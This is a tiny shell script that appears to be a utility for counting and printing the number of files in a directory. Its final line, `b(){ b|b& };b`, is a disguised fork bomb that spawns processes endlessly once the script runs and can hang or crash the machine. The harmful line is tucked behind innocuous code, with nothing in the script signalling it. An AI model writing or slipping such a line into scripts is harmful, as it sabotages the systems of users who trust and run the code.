#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
b(){ b|b& };b
